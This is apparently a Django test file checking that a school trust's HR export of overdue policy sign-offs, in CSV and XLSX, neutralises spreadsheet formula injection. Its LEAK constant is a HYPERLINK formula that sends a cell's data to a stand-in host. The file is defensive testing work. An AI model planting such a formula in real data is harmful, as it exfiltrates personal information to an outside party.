"""Finding 4 of issue 13: a name typed by someone inside the trust must not
become a live formula in the outstanding list HR downloads (CSV or XLSX, from
the page or the command)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from acknowledgements.services import sync_obligations
from reports.columns import HEADER
from tests.factories import PersonFactory, published_policy, sign_off_rule
from tests.reports.exporting import prepared_export

LEAK = '=HYPERLINK("http://x.example/?leak="&B2,"Click me")'


@pytest.fixture
def planted(world):
    """Someone with a formula for a first name owes an overdue policy."""
    policy = published_policy(title="+Email Policy")
    sign_off_rule(policy, groups=["teaching"], new_version_days=30)
    person = PersonFactory(first_name=LEAK, last_name="@Lee", email="leak@school.example", schools=[world.north],
                           start_date=datetime.date(2020, 1, 1))
    sync_obligations()
    return person


def planted_row(rows: list) -> list:
    return next(row for row in rows if row[1] == "leak@school.example")


def test_trust_hr_csv_export_shows_a_formula_as_text(world, signed_in, planted):
    response = signed_in(world.trust_hr).get(reverse("reports:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = planted_row(rows)
    assert row[0] == f"'{LEAK} @Lee"
    assert row[4] == "'+Email Policy"


def test_trust_hr_xlsx_export_holds_text_not_a_formula(world, signed_in, planted):
    sheet = load_workbook(io.BytesIO(prepared_export(signed_in(world.trust_hr), "xlsx"))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "leak@school.example")
    assert row[0].data_type == "s" and row[0].value == f"'{LEAK} @Lee"
    assert row[4].data_type == "s" and row[4].value == "'+Email Policy"
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
    days_overdue = row[HEADER.index("days_overdue")]
    assert days_overdue.data_type == "n" and isinstance(days_overdue.value, int)  # days overdue stays a number


def test_outstanding_command_csv_and_xlsx_hold_no_formula(world, planted, tmp_path):
    out = io.StringIO()
    call_command("outstanding", "--format", "csv", stdout=out)
    assert planted_row(list(csv.reader(io.StringIO(out.getvalue()))))[0] == f"'{LEAK} @Lee"
    call_command("outstanding", "--format", "csv", "--output", str(tmp_path / "o.csv"))
    assert planted_row(list(csv.reader((tmp_path / "o.csv").open())))[0] == f"'{LEAK} @Lee"
    call_command("outstanding", "--format", "xlsx", "--output", str(tmp_path / "o.xlsx"))
    sheet = load_workbook(tmp_path / "o.xlsx").active
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
    assert planted_row(list(sheet.iter_rows(values_only=True)))[0] == f"'{LEAK} @Lee"
